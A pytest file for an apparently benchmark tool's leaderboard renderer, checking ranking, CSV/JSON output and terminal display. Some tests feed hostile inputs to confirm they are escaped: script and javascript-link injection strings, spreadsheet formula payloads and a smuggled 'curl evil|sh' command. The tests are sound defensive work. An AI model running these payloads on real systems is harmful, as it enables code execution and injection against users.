import csv
import json
import os
import re
import subprocess
import sys
import zlib
from datetime import UTC, datetime, timedelta, timezone

import pandas as pd
import pytest
from rich.console import Console

from effbench import store
from effbench.errors import EffbenchError
from effbench.records import (
    Arm,
    Calibration,
    Economics,
    Envelope,
    Flops,
    Interaction,
    Interval,
    Memory,
    MetricValue,
    Protocol,
    Provenance,
    Record,
    Speedup,
    TimeSplit,
    Versus,
)
from effbench.report import figures, leaderboard, legend, markdown, show

METRICS = ("t2i_r10", "t2i_r1", "t2i_r5", "i2t_r1", "i2t_r5", "i2t_r10", "t2i_medr", "i2t_medr")
BASELINE = 48.0 / (1 - 0.034)
EVIL = (
    "a|b\n\n# big <script>alert(1)</script> `rm` [x](javascript:1) "
    "![i](http://evil.example/x.png) \u202egnp.exe\x1b[31m"
)


def make_arm(name="token_prune", spec=None, ratio=1.42, quality=48.0, kind="method", **changes):
    spec = f"{name}:keep=0.5" if spec is None else spec
    figure = Speedup(
        value=ratio, low=ratio - 0.03, high=ratio + 0.04, n=30, verdict="FASTER" if ratio > 1.1 else "NO DIFFERENCE"
    )
    loss = 1 - quality / BASELINE
    if kind == "baseline":
        quality = BASELINE
    metrics = {
        each: MetricValue(
            value=quality,
            low=quality - 1.5,
            high=quality + 1.5,
            higher_is_better="medr" not in each,
            unit="rank" if "medr" in each else "%",
            lossiness=None if kind == "baseline" else Interval(value=loss, low=loss - 0.022, high=loss + 0.022, n=1000),
        )
        for each in METRICS
    }
    fields = dict(
        name=name,
        spec=spec,
        kind=kind,
        test_time=TimeSplit(total=9.0, compute=8.8, data_wait=0.2),
        test_speedup=None if kind == "baseline" else figure,
        image_speedup=None if kind == "baseline" else figure,
        test_flops=Flops(dense=2_510_000_000),
        parameters=9_180_000,
        weight_bytes=36_700_160,
        memory=Memory(weights=36_700_160, load_peak=60_000_000, run_peak=412_000_000),
        tokens=(197, 197, 197),
        metrics=metrics,
    )
    return Arm(**fields | changes)


def make_record(
    name="20250102-abc", day=2, arms=(), task="flickr8k", data="flickr8k", epochs=12, synthetic=False, **changes
):
    envelope = Envelope(
        task=task, data=data, data_fingerprint="f00", synthetic=synthetic,
        images={"test": 1000}, captions={"test": 5000},
        metrics=METRICS, backbone="timm:deit_tiny_patch16_224", weights="ab" * 32, transform="resize 224 bicubic",
        protocol=Protocol(epochs=epochs, threads=2), device_model="Some CPU @ 2.0 GHz",
    )  # fmt: skip
    fixed = (
        make_arm("baseline", "", kind="baseline"),
        make_arm("noop", "", 1.001, kind="control", control="noop"),
        make_arm("identity", "", 1.02, kind="control", control="identity"),
    )
    fields = dict(
        id=name,
        created=datetime(2025, 1, 1, tzinfo=UTC) + timedelta(days=day - 1),
        wall_time=432.0 + zlib.crc32(name.encode()) / 2**40,  # no two runs take equally long
        peak_memory=1_400_000_000,
        lockstep_overhead=0.012,
        primary_metric="t2i_r10",
        envelope=envelope,
        provenance=Provenance(command="effbench run --method token_prune --task flickr8k", effbench="0.1.0", load=0.31),
        arms=(*fixed, *(arms or (make_arm(),))),
    )
    return Record(**fields | changes)


def some_records():
    """Two comparable runs, one with other epochs, one synthetic, one invalid: between them every kind of row."""
    pruned = make_arm(
        test_flops=Flops(dense=1_730_000_000, overhead=4_000_000, complete=False), tokens=(197, 138, 97, 68), ratio=1.31
    )
    trained = make_arm(
        "token_merge",
        "token_merge:r=13,phase=both",
        1.62,
        phase="both",
        train_time=TimeSplit(total=100.0),
        train_speedup=Speedup(value=1.2, low=1.1, high=1.3, n=90, verdict="FASTER"),
        notes=("merges 13 tokens in each of 12 blocks",),
    )
    blind = make_arm(
        "random",
        "token_prune:keep=0.5,score=random",
        1.33,
        31.0,
        "control",
        control="random",
        controls_for=("token_prune",),
    )
    failed = make_arm(
        "quantize", "quantize", status="FAILED", error="RuntimeError: no kernel for int8", metrics={}, test_speedup=None
    )
    return [
        make_record("20250102-first", 2, (pruned, blind)),
        make_record(
            "20250103-second", 3, (pruned, trained, failed, blind), notes=("1 caption without an image dropped",)
        ),
        make_record("20250104-short", 4, epochs=1),
        make_record("20250105-scenes", 5, data="scenes", synthetic=True),
        make_record("20250106-broken", 6, status="INVALID", why_invalid="noop is 1.21x [1.15, 1.27]: outside its band"),
    ]


def section(text, heading):
    return next(part for part in text.split("\n## ") if heading in part.splitlines()[0])


def main_table(part):
    """The arms of the first table and its cells by heading; titles of blocks among them, without cells."""
    lines = re.search(r"(?:^\|.*\n)+", part, flags=re.M)[0].splitlines()
    header, _, *body = ([cell.strip() for cell in re.split(r"(?<!\\)\|", line)[1:-1]] for line in lines)
    return {line[0]: dict(zip(header[1:], line[1:], strict=True)) for line in body}


def test_baseline_then_methods_by_speedup_then_controls():
    part = section(leaderboard.render(some_records()[:2], []), "flickr8k")
    order = [name.strip("*").split("<br>")[0] for name in main_table(part)]
    assert order[0].startswith("baseline") and order[1].startswith("token_merge")
    assert [name.split(":")[0].split(" (")[0] for name in order[2:4]] == ["token_prune", "quantize"]
    assert order[4] == "controls:" and all(name.startswith("control") for name in order[5:]) and len(order) == 8
    assert "token_prune:keep=0.5 (2 runs)" in part
    assert "FAILED: RuntimeError: no kernel for int8" in part
    assert "≥ 1.73 +0.0040" in part and "197 → 68" in part


def test_the_newest_success_is_shown():
    old, new = make_record("a", 2, (make_arm(ratio=1.3),)), make_record("b", 3, (make_arm(ratio=1.7),))
    worst = make_record("c", 4, (make_arm(status="FAILED", error="boom", test_speedup=None),))
    part = leaderboard.render([old, new, worst], [])
    assert "1.70x" in part and "1.30x" not in part and "boom" not in part and "(3 runs)" in part


def test_envelopes_are_apart_and_say_in_what_they_differ():
    text = leaderboard.render(some_records()[:3], [])
    index, *parts = text.split("\n## ")[1:]
    assert index.startswith("2 envelopes") and index.count("](#") == 2
    assert len(parts) == 2 and all("differ in (here)" in part and "protocol.epochs" in part for part in parts)
    assert "protocol.epochs (1)" in parts[0] and "token_merge" not in parts[0] and "protocol.threads" not in text
    assert "differ in (here)" not in leaderboard.render(some_records()[:2], [])


def test_synthetic_data_are_named_last_and_never_ranked_with_real_ones():
    parts = leaderboard.render(some_records(), []).split("\n## ")[1:]
    assert "data **scenes (synthetic)**" in parts[-1] and "never ranked with results on real data" in parts[-1]
    assert not any("drawn by a program" in part for part in parts[:-1])


def test_invalid_runs_are_listed_and_not_ranked():
    text = leaderboard.render(
        [make_record("bad", status="INVALID", why_invalid="noop is off")], ["x/record.json is bad"]
    )
    assert "`bad`: noop is off" in text and "| arm" not in text and "x/record.json is bad" in text


def test_train_speedup_is_not_claimed_for_the_baselines_own_weights():
    arm = make_arm(train_speedup=Speedup(value=9.99, n=3, verdict="TOO FEW SAMPLES"))
    assert "9.99" not in leaderboard.render([make_record(arms=(arm,))], [])


def test_hostile_text_stays_text():
    costs = Economics(share=0.95, best_dev=1e308, seeds=1, reached=0, tuning_seconds=1e308, break_even=1e308, note=EVIL)
    evil = dict(economics=costs, agreement={f"{EVIL}_cosine": Interval(value=0.5)})
    arm = make_arm(EVIL, EVIL, notes=(EVIL,), status="FAILED", error=EVIL, **evil)
    record = make_record(arms=(arm,), task=EVIL, data=EVIL, notes=("https://evil.example @all $x$ ~~~", "- # x"))
    provenance = record.provenance.model_copy(update=dict(command="x```\n<b>\u202e"))
    record = record.model_copy(update=dict(provenance=provenance))
    text = leaderboard.render([record], [EVIL])
    outside = re.sub(r"````.*?````", "", text, flags=re.S)
    assert "<script" not in text and "<b>" not in outside and "\x1b" not in text and "\u202e" not in text
    assert not re.search(r"(?<!\\)\]\(", text.replace(legend.INTRODUCTION, "")) and "https://" not in text
    for one in re.findall(r"(?:^\|.*\n)+", text, flags=re.M):
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in one.splitlines()}) == 1, one
    assert sum(line.startswith("#") for line in text.splitlines()) == 3 and text.count("<a ") == 1


@pytest.mark.parametrize(
    "text, escaped",
    [
        ("token_prune:keep=0.5,at=3/6/9+quantize", "token_prune:keep=0.5,at=3/6/9+quantize"),
        ("_a_ *b*", r"\_a\_ \*b\*"),
        ("a\\|b", r"a\\\|b"),
        ("&lt;", "&amp;lt;"),
        ("2.0@$", "2.0&#64;&#36;"),
        ("www.x.org", "www&#46;x.org"),
        ("line\r\n\u2028 two\x00\u200b", "line two"),
        ("é日本", "é日本"),
    ],
)
def test_escape(text, escaped):
    assert markdown.escape(text) == escaped


def test_figures():
    assert [figures.number(x) for x in (0, 0.01234, 1.2345, 12.345, 123.45, 1234.5, 2e6)] == [
        "0", "0.0123", "1.23", "12.3", "123", "1234", "2e+06",
    ]  # fmt: skip
    none = MetricValue(value=1, higher_is_better=True, note="n/a (baseline at chance)")
    assert figures.lossiness(none) == "n/a (baseline at chance)" and figures.ratio(None) == "—"
    few = Speedup(value=1.5, n=2, verdict="TOO FEW SAMPLES")
    assert figures.ratio(few) == "1.50x"


def test_write_is_atomic_and_needs_no_heavy_library(tmp_path):
    store.write(make_record(), pd.DataFrame({"kind": []}), tmp_path)
    code = (
        "import sys; sys.path.insert(0, sys.argv[2]); from pathlib import Path\n"
        "from effbench.report import leaderboard, show; leaderboard.write_leaderboard(Path(sys.argv[1]))\n"
        "print([m for m in ('torch', 'pandas', 'timm', 'scipy', 'pyarrow') if m in sys.modules])"
    )
    here = os.path.dirname(os.path.dirname(__file__))
    done = subprocess.run([sys.executable, "-c", code, str(tmp_path), here], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
    files = ["README.md", "index.html", "leaderboard.csv", "leaderboard.json", "records"]
    assert sorted(os.listdir(tmp_path)) == files
    (tmp_path / "file").write_text("")
    with pytest.raises(EffbenchError, match="was not written"):
        leaderboard.write_leaderboard(tmp_path / "file")


def test_an_empty_folder_gives_a_leaderboard_that_says_so(tmp_path):
    assert "No run yet" in leaderboard.write_leaderboard(tmp_path / "new").read_text()


def shown(record, width=100, **options):
    console = Console(width=width, record=True, file=open(os.devnull, "w"), **options)
    show.print_record(record, console)
    return console.export_text()


def test_a_run_in_the_terminal_fits_and_holds_the_figures():
    text = shown(some_records()[1])
    assert max(map(len, text.splitlines())) <= 100
    for figure in (
        "token_merge:r=13",
        "1.62x",
        "[1.59, 1.66]",
        "FASTER",
        "197 → 68",
        "t2i_r10",
        "+3.4 %",
        "no kernel for int8",
    ):
        assert figure in text, figure
    assert "noise floor" in text and "20250103-second" in text


def test_the_terminal_shows_hostile_text_as_text():
    text = shown(
        make_record(
            arms=(make_arm("[red]x[/red]\x1b]0;t\x07", "[link=http://x]"),), status="INVALID", why_invalid="[/]"
        )
    )
    assert "[red]x[/red]" in text.replace("\n", "") and "\x1b" not in text and "INVALID" in text


def versus(control, verdict):
    return Versus(control=control, arms=("x", "y"), value=40.0, advantage=Interval(value=0.0), verdict=verdict)


def test_a_section_opens_with_its_verdict_and_one_table_that_a_phone_can_show():
    flops = Flops(dense=1_730_000_000, useful=1_200_000_000)
    good = make_arm("good", "good", versus=(versus("random", "BETTER"),), test_flops=flops, source="A 2024; B 2025")
    good = good.model_copy(update=dict(promised=1.6, realised=0.89, train_time=TimeSplit(total=9.0)))
    trained = Speedup(value=1.2, low=1.1, high=1.3, n=90, verdict="FASTER")
    good = good.model_copy(update=dict(train_speedup=trained, phase="both"))
    worse, same = (
        make_arm(name, name, 1.3, versus=(versus("resize", verdict),))
        for name, verdict in (("worse", "WORSE"), ("same", "NO DIFFERENCE SHOWN"))
    )
    part = section(leaderboard.render([make_record(arms=(good, worse, same))], []), "flickr8k")
    _, answer, more, table, *_ = part.split("\n\n")
    assert answer.startswith("**Worth using: good (1.42x ") and more.startswith("- Below the line (2 of 3 compared")
    rows = main_table(table + "\n")
    assert [name.strip("*").split("<br>")[0] for name in rows][1:5] == [
        "good", "below the line: not shown to beat random or resize at the same budget:", "same", "worse"
    ]  # fmt: skip
    cells = rows["good<br>both · \\[1, 2\\]"]
    assert list(cells.values())[1:] == [
        "**1.42x** FASTER<br>[1.39, 1.46]<br>realised 89 % [87, 91]", "+3.4 %<br>\\[+1.2, +5.6\\]",
        "48.0<br>[46.5, 49.5]", "1.73<br>useful 1.20", "peak 393<br>weights 35.0", "1.20x<br>[1.10, 1.30]<br>FASTER",
    ]  # fmt: skip
    assert re.fullmatch(r"★ \d+ %", cells["front"]) and "Sources: \\[1\\] A 2024; \\[2\\] B 2025" in part
    assert "same<br>test<br>not shown to beat resize" in rows and "worse<br>test<br>worse than resize" in rows
    for said in ("noise floor (noop) 1.001x", "Some CPU", "```sh\neffbench run --method token_prune"):
        assert said in part, said
    shown_at_once = re.sub(r"<details>.*?</details>", "", part, flags=re.S)
    assert shown_at_once.count("| :--") == 1


def test_a_hundred_methods_stay_short():
    arms = [make_arm(f"m{i}", f"m{i}", 1.2 + i / 100) for i in range(60)]
    arms += [make_arm(f"lost{i}", f"lost{i}", versus=(versus("random", "WORSE"),)) for i in range(40)]
    part = section(leaderboard.render([make_record(arms=arms)], []), "flickr8k")
    at_once = re.sub(r"<details>.*?</details>", "", part, flags=re.S)
    assert len(main_table(part)) <= 20 and len(at_once) < 6000
    assert "more methods, none of them on the front</summary>" in part and "40 methods below the line" in part
    assert all(f"| m{i}<br>" in part for i in range(60)) and all(f"| lost{i}<br>" in part for i in range(40))


def test_what_was_timed_is_said_where_the_split_is_smaller_than_the_batch():
    record = make_record()
    assert "timed in pairs of 16 images;" in leaderboard.render([record], [])
    small = record.model_copy(update=dict(envelope=record.envelope.model_copy(update=dict(images={"test": 10}))))
    assert "timed in pairs of 10 images (16 were asked for: the split has no more)" in leaderboard.render([small], [])
    steps = dict(step_time=TimeSplit(total=1.0, compute=1.0, steps=30))
    arms = tuple(arm.model_copy(update=steps) for arm in small.arms)
    assert "Time of a test step of 10 images" in shown(small.model_copy(update=dict(arms=arms)))


def test_rows_of_several_runs_say_how_each_is_repeated():
    old, new = (
        make_record(name, day, (make_arm(name, name),), provenance=Provenance(command=f"effbench run --method {name}"))
        for name, day in (("older", 2), ("newer", 3))
    )
    part = section(leaderboard.render([old, new], []), "flickr8k")
    assert "| newer<br>test · run 1 |" in part and "| older<br>test · run 2 |" in part
    assert part.index("run 1: `newer`") < part.index("--method newer") < part.index("run 2: `older`")


def test_many_envelopes_have_an_index_and_the_newest_are_shown(tmp_path):
    records = [make_record(f"r{i}", 1 + i, epochs=1 + i) for i in range(23)]
    text = leaderboard.render(records, [])
    assert "## 23 envelopes" in text and text.count("](#") == 20 == text.count("<a id=")
    assert text.count("; not shown here") == 3 and "[leaderboard.csv](leaderboard.csv)" in text
    assert all(f"`r{i}` (2025" in text for i in range(3, 23)) and "`r2` (2025" not in text
    for record in records:
        store.write(record, pd.DataFrame({"kind": []}), tmp_path)
    leaderboard.write_leaderboard(tmp_path)
    assert {row["run"] for row in json.loads((tmp_path / "leaderboard.json").read_text())["rows"]} == {
        record.id for record in records
    }


def written(root, *records):
    for record in records:
        store.write(record, pd.DataFrame({"kind": []}), root)
    leaderboard.write_leaderboard(root)
    with open(root / "leaderboard.csv", newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))

    def refuse(name):
        raise AssertionError(f"{name} in JSON")

    return table, json.loads((root / "leaderboard.json").read_text(), parse_constant=refuse)


def test_the_same_rows_as_csv_and_json(tmp_path):
    table, data = written(tmp_path, *some_records())
    assert data["schema"] == 2 and [row["arm"] for row in data["rows"]] == [row["arm"] for row in table]
    assert all(list(row) == list(table[0]) for row in [*table, *data["rows"]])
    first = next(row for row in data["rows"] if row["arm"] == "token_prune")
    assert (first["test_speedup"], first["test_verdict"], first["lossiness_high"]) == (
        1.31,
        "FASTER",
        pytest.approx(0.056),
    )
    assert (first["metric"], first["quality"], first["runs"], first["noise_floor"]) == ("t2i_r10", 48.0, 2, 1.001)
    assert first["flops_dense"] == 1_730_000_000 and first["flops_complete"] is False and first["realised"] is None
    assert 0 <= first["front_probability"] <= 1 and first["command"].startswith("effbench run")
    line = table[data["rows"].index(first)]
    assert float(line["test_speedup"]) == 1.31 and line["realised"] == "" and line["run"] == "20250103-second"
    assert not any(row["run"] == "20250106-broken" for row in table)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " \u202e=1", "\uff1d1", "|calc", "%0A"])
def test_a_cell_is_never_a_formula(tmp_path, text):
    table, data = written(tmp_path, make_record(arms=(make_arm(text, text, 999, source=f"{text}\r\n,;x"),)))
    row = next(row for row in table if row["kind"] == "method")
    assert row["arm"].startswith("'") and row["spec"].startswith("'") and row["source"].startswith("'")
    assert "\u202e" not in row["arm"] and "\n" not in row["source"] and float(row["test_speedup"]) == 999
    assert text in [row["arm"] for row in data["rows"]]  # as it is: JSON runs nothing


def test_bad_records_among_good_ones_are_named_and_counted_nowhere(tmp_path):
    good = make_record()
    store.write(good, pd.DataFrame({"kind": []}), tmp_path)
    text = good.model_dump_json()
    for name, content in (
        ("cut", text[:900]),
        ("newer", text.replace('"schema_version":2', '"schema_version":9')),
        ("copy", text.replace(good.id, "copy")),
        ("<script>alert(1)", text),
        ("moved", text),
    ):
        (tmp_path / "records" / name).mkdir()
        (tmp_path / "records" / name / "record.json").write_text(content)
    os.mkfifo(tmp_path / "records" / "cut" / "pipe")
    page = leaderboard.write_leaderboard(tmp_path).read_text()
    assert "(5); they count nowhere" in page and "<script" not in page and "(2 runs)" not in page
    for said in ("truncated", "newer effbench", "copied or renamed", "is a copy: the same measurement as"):
        assert said in page, said
    rows = json.loads((tmp_path / "leaderboard.json").read_text())["rows"]
    assert len(rows) == 4 and len({row["run"] for row in rows}) == 1


@pytest.mark.parametrize("name", ["0", "zzz"])
def test_an_edited_copy_displaces_nothing_and_is_named_with_what_it_copies(tmp_path, name):
    genuine, other = make_record("genuine"), make_record("other", 3, (make_arm("good", "good", 1.2),))
    forged = genuine.model_copy(update=dict(id=name, arms=(*genuine.arms[:3], make_arm(ratio=9.0))))
    table, data = written(tmp_path, genuine, forged, other)
    page = (tmp_path / "README.md").read_text()
    assert {row["run"] for row in data["rows"]} == {"other"} and all(row["runs"] == "1" for row in table)
    assert page.count("one of them was edited") == 2 and "9.00x" not in page and "(2 runs)" not in page


def test_random_weights_have_no_quality_anywhere(tmp_path):
    parts = make_arm("a", "a"), make_arm("b", "b")
    both = Interaction(parts=("a", "b"), speedup=Interval(value=1.02), quality=Interval(value=0.77))
    record = make_record(arms=(*parts, make_arm("a+b", "a+b", interaction=both)))
    random = record.envelope.model_copy(update=dict(weights="random"))
    for weights, there in ((record.envelope, True), (random, False)):
        text = leaderboard.render([record.model_copy(update=dict(envelope=weights))], [])
        seen = shown(record.model_copy(update=dict(envelope=weights)))
        for figure in ("+3.4 %", "48.0", "49.7", "0.77"):
            assert (figure in text) is (figure in seen) is there, figure
        assert "1.02" in text and "1.02" in seen and "1.42x" in text
    table, data = written(tmp_path, record.model_copy(update=dict(envelope=random)))
    for name in ("quality", "quality_low", "quality_high", "lossiness", "lossiness_low", "lossiness_note", "no_loss"):
        assert all(row[name] is None for row in data["rows"]) and all(row[name] == "" for row in table)
    untimed = [arm.model_copy(update=dict(test_speedup=None)) for arm in record.arms]
    untimed = record.model_copy(update=dict(envelope=random, arms=tuple(untimed)))
    assert "No speed-up was measured (3 methods)." in leaderboard.render([untimed], [])


def test_the_page_spends_its_room_on_the_newest_envelopes_and_shows_them_in_its_order(monkeypatch):
    """Drawn data come last on the page; what is too large keeps out nothing but itself."""
    many = tuple(make_arm(f"m{i}", f"m{i}") for i in range(30))
    old, large, new = (
        make_record("old", 2, task="a"),
        make_record("large", 3, many, task="b"),
        make_record("new", 4, task="c", synthetic=True),
    )
    size = len(leaderboard.render([old, new], [])) - len(legend.LEGEND)
    for room, there in ((size, [True, False, True]), (size // 2, [False, False, True]), (10, [False, False, True])):
        monkeypatch.setattr(leaderboard, "BYTES", room)
        text = leaderboard.render([old, large, new], [])
        assert [f"`{name}` (2025" in text for name in ("old", "large", "new")] == there, room
    monkeypatch.setattr(leaderboard, "BYTES", 10**6)
    text = leaderboard.render([new, large, old], [])
    assert text.index("`old` (2025") < text.index("`large` (2025") < text.index("`new` (2025")


def test_a_foreign_command_is_published_only_quoted_and_only_where_it_is_one_of_effbench(tmp_path):
    evil, foreign = (
        make_record(name, day, (make_arm(name, name),), provenance=Provenance(command=command))
        for name, day, command in (("one", 2, "effbench run --method x; curl evil|sh"), ("two", 3, "curl evil|sh"))
    )
    _, data = written(tmp_path, evil, foreign)
    quoted = "effbench run --method 'x;' curl 'evil|sh'"
    assert {row["arm"]: row["command"] for row in data["rows"] if row["kind"] == "method"} == {"one": quoted, "two": ""}
    page = (tmp_path / "README.md").read_text()
    assert f"```sh\n{quoted}\n```" in page and page.count("curl") == 1


def test_a_span_cannot_be_left():
    assert markdown.span("a``b`") == "``` a``b` ```" and markdown.span("a\n\nb") == "` a b `"


def test_records_judged_by_another_metric_are_ranked_apart(tmp_path):
    """The envelope is the same: the author of the task made another of its metrics the primary one."""
    old = make_record("old", 2, (make_arm("before", "before"),), primary_metric="t2i_r1")
    new = make_record("new", 3, (make_arm("since", "since"),))
    text = leaderboard.render([old, new], [])
    index, *parts = text.split("\n## ")[1:]
    digest = old.envelope.digest
    assert index.startswith("2 envelopes") and f"(#{digest})" in index and f"(#{digest}-2)" in index
    assert text.count(f'<a id="{digest}">') == text.count(f'<a id="{digest}-2">') == 1
    newest = next(part for part in parts if f"`{digest}`" in part.splitlines()[0])
    older = next(part for part in parts if f"`{digest}-2`" in part.splitlines()[0])
    assert "lossy-ness of t2i_r10" in newest and "| since<br>" in newest and "| before<br>" not in newest
    assert "lossy-ness of t2i_r1 " in older and "| before<br>" in older and "| since<br>" not in older
    assert "primary_metric (t2i_r10)" in newest and "primary_metric (t2i_r1)" in older
    _, data = written(tmp_path, old, new)
    assert {(row["run"], row["envelope"], row["metric"]) for row in data["rows"]} == {
        ("old", digest, "t2i_r1"),
        ("new", digest, "t2i_r10"),
    }


def test_memory_of_tensors_and_of_the_process_have_names_of_their_own(tmp_path):
    memory = Memory(weights=1, load_peak=2, run_peak=30, tensor_peak=20)
    table, data = written(tmp_path, make_record(arms=(make_arm(memory=memory),)))
    assert "peak_bytes" not in table[0]
    row = next(row for row in data["rows"] if row["kind"] == "method")
    assert (row["tensor_peak_bytes"], row["process_peak_bytes"]) == (20, 30)
    assert data["rows"][0]["tensor_peak_bytes"] is None and data["rows"][0]["process_peak_bytes"] == 412_000_000


def test_a_calibration_s_text_is_escaped():
    found = Calibration(
        created=datetime(2025, 1, 2, tzinfo=UTC), device_model="x", threads=1, backbone="a\n<b>|", batch=1, pairs=30,
        margin=0.03, trials=300, noise_floor=0.02, coverage=0.95, half_width=0.02, verdicts={},
    )  # fmt: skip
    record = make_record(calibration=found)
    assert "(a &lt;b&gt;\\|, batch 1)" in leaderboard.render([record], []) and "(a <b>|, batch" in shown(record, 200)


def test_moments_at_the_end_of_the_calendar_are_sorted():
    late, early = datetime.max.replace(tzinfo=timezone(-timedelta(hours=12))), datetime.min.replace(tzinfo=UTC)
    records = [make_record("late", created=late), make_record("early", created=early), make_record("now")]
    assert "`late`" in leaderboard.render(records, [])


def test_two_processes_read_what_one_reads(tmp_path):
    for i in range(7):
        store.write(
            make_record(f"r{i}", 1 + i, status="INVALID" if i == 3 else "ok"), pd.DataFrame({"kind": []}), tmp_path
        )
    (tmp_path / "records" / "r5" / "record.json").write_text("{")
    code = (
        "import sys; sys.path.insert(0, sys.argv[2]); from pathlib import Path\n"
        "from effbench.report import reading; reading.CHUNK = 2\n"
        "def read(many):\n"
        "    reading.MANY = many; problems = []; return reading.groups(Path(sys.argv[1]), problems), problems\n"
        "os = reading.os; os.sched_getaffinity = lambda _: {0, 1}\n"
        "one, two = read(10**9), read(1)\n"
        "count = sum(group.runs + group.invalid_runs for group in one[0])\n"
        "assert one == two and count == 6 and len(one[1]) == 1, (one, two)"
    )
    here = os.path.dirname(os.path.dirname(__file__))
    subprocess.run([sys.executable, "-c", code, str(tmp_path), here], check=True)


def test_a_run_in_the_terminal_opens_with_its_verdict():
    lines = shown(some_records()[1]).splitlines()
    assert lines[2].startswith("Worth using") and "FAILED (1): quantize." in " ".join(lines[2:6])
    bad = make_record(status="INVALID", why_invalid="noop is off")
    assert "Worth using" not in shown(bad) and "INVALID: noop is off" in shown(bad)
